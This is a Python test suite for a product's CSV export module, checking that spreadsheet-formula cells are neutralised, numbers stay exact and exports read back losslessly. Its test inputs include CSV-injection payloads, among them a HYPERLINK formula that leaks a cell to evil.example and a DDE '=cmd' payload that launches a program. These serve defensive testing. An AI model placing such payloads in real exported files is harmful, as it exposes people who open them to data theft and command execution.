"""apps/core/csv.py: no cell the product writes can start a spreadsheet formula, numbers stay numbers, and the
product's own files read back exactly."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from apps.core.csv import (
    CONTENT_TYPE,
    TRIGGERS,
    CsvWriter,
    csv_response,
    csv_text,
    encode_cell,
    neutralise,
    read_records,
    restore,
)

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_triggers_are_the_owasp_list():
    assert frozenset(DANGEROUS) == TRIGGERS


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'),
        ("+1+2", '"\'+1+2"'),
        ("-2+3", '"\'-2+3"'),
        ("@SUM(A1:A9)", '"\'@SUM(A1:A9)"'),
        ("\t=1+2", '"\'\t=1+2"'),
        ("\r=1+2", '"\'\r=1+2"'),
        ("\n=1+2", '"\'\n=1+2"'),
        ("'=1+2", "\"''=1+2\""),  # an existing leading quote is doubled, so the quote can be taken off again
        ("'plain", "\"''plain\""),
        ("a=1+2", '"a=1+2"'),  # a trigger after the first character is harmless inside a quoted cell
        ("a;=1+2", '"a;=1+2"'),  # a separator of another locale cannot start a cell inside quotes
        ("a,=1+2", '"a,=1+2"'),
        ("", '""'),
        ("Cost centre CC-1100", '"Cost centre CC-1100"'),
    ],
)
def test_text_cells_are_quoted_and_neutralised(text, cell):
    assert encode_cell(text) == cell


def test_a_string_that_looks_like_a_negative_number_is_text():
    assert encode_cell("-12.50") == '"\'-12.50"'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-12.50"), "-12.50"),
        (Decimal("-0.000000001"), "-0.000000001"),
        (Decimal("1E+1"), "10"),  # plain notation, never 1E+1
        (Decimal("0E-9"), "0.000000000"),
        (-3, "-3"),
        (0, "0"),
        (10**20, "100000000000000000000"),
    ],
)
def test_numbers_are_bare_and_exact(value, cell):
    assert encode_cell(value) == cell


def test_a_negative_amount_stays_a_number_and_hostile_text_beside_it_does_not():
    text = csv_text([[Decimal("-12.50"), "-12.50", "=1+2", None, 7]], header=["amount", "note", "tag", "empty", "n"])
    assert text == '"amount","note","tag","empty","n"\r\n-12.50,"\'-12.50","\'=1+2",,7\r\n'
    assert _read(text)[1] == ["-12.50", "'-12.50", "'=1+2", "", "7"]


def test_a_row_of_one_empty_cell_is_not_a_blank_line():
    assert _read(csv_text([[None], ["x"]])) == [[""], ["x"]]


def test_non_finite_decimals_are_text():
    assert encode_cell(Decimal("-Infinity")) == '"\'-Infinity"'
    assert encode_cell(Decimal("NaN")) == '"NaN"'


@pytest.mark.parametrize("value", [1.5, float("-inf"), True, False])
def test_floats_and_bools_are_refused(value):
    with pytest.raises(TypeError):
        encode_cell(value)


def test_other_values_are_written_as_their_neutralised_text():
    assert encode_cell(datetime.date(2026, 10, 1)) == '"2026-10-01"'


def test_dict_rows_need_known_columns():
    out = io.StringIO()
    writer = CsvWriter(out, fieldnames=["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": "=x"})
    assert out.getvalue() == '"a","b"\n"\'=x",\n'
    with pytest.raises(ValueError, match="'c'"):
        writer.writerow({"a": "x", "c": "y"})
    with pytest.raises(TypeError):
        CsvWriter(io.StringIO()).writerow({"a": "x"})


def test_csv_response_is_an_attachment_with_safe_cells():
    response = csv_response(filename="x-1.csv", header=["file", "line"], rows=[["=cmd|' /C calc'!A0", 2]])
    assert response["Content-Type"] == CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="x-1.csv"'
    assert response.content.decode() == '"file","line"\r\n"\'=cmd|\' /C calc\'!A0",2\r\n'


def test_read_records_restores_what_the_writer_neutralised():
    rows = [{"code": "=A1", "name": "'quoted", "note": "-5"}, {"code": "plain", "name": "@x", "note": ""}]
    text = csv_text(rows, fieldnames=["code", "name", "note"])
    assert list(read_records(text)) == rows


def test_read_records_keeps_a_hand_written_leading_quote_that_protects_nothing():
    assert list(read_records("code,name\n'007,'=x\n")) == [{"code": "'007", "name": "=x"}]


# --- properties -----------------------------------------------------------------------------------------

text_cells = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40) | st.sampled_from(
    ["=1+2", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "'=1", "''", "'", "a;=1", 'a","=1', "=", "-"]
)


@settings(deadline=None)  # the machine is shared: time is not the property
@given(st.lists(st.lists(text_cells, min_size=1, max_size=6), min_size=1, max_size=5))
@example([['=HYPERLINK("http://evil.example","x")', "a\r\n=1+2", '"=1"', "-"]])
def test_no_cell_read_back_starts_with_a_trigger_and_stripping_the_quote_gives_the_text(rows):
    text = csv_text(rows)
    read_back = _read(text)
    assert len(read_back) == len(rows)
    for original_row, cells in zip(rows, read_back, strict=True):
        assert len(cells) == len(original_row)
        for original, cell in zip(original_row, cells, strict=True):
            assert cell[:1] not in TRIGGERS or cell == ""
            assert cell == neutralise(original)
            # Recoverable: the added quote is the only change, and restore takes exactly it off again.
            assert cell == original or cell == "'" + original
            assert restore(cell) == original


@settings(deadline=None)
@given(text_cells)
def test_neutralise_is_one_to_one(text):
    neutralised = neutralise(text)
    assert neutralised[:1] not in TRIGGERS
    assert restore(neutralised) == text


@settings(deadline=None)
@given(st.decimals(allow_nan=False, allow_infinity=False) | st.integers())
def test_every_number_reads_back_as_the_same_number(value):
    (cells,) = _read(csv_text([[value]]))
    assert Decimal(cells[0]) == value
    assert not cells[0].startswith("'")


# --- the one writer -------------------------------------------------------------------------------------

APPS = Path(__file__).resolve().parents[2] / "apps"


# Not a file for people: the raw-usage retention archive is a faithful machine copy of the rows (the same CSV as
# PostgreSQL's COPY writes, which it uses there), kept to be loaded back, never served as a download.
MACHINE_ARCHIVES = {APPS / "usage" / "services" / "retention.py"}


def test_no_module_of_the_product_writes_csv_around_the_safe_writer():
    # A CSV download is an HttpResponse with a text/csv content type; a file is written by csv.writer.
    writers = re.compile(r"csv\.(writer|DictWriter)\(|content_type\s*=\s*[\"']text/csv")
    offenders = [
        str(path.relative_to(APPS))
        for path in APPS.rglob("*.py")
        if path != APPS / "core" / "csv.py"
        and path not in MACHINE_ARCHIVES
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_ground_floor_imports_no_app_of_the_project():
    imports = re.compile(r"^\s*(from|import)\s+apps\.(?!core\b)", re.MULTILINE)
    offenders = [
        str(path.relative_to(APPS))
        for path in (APPS / "core").rglob("*.py")
        if imports.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
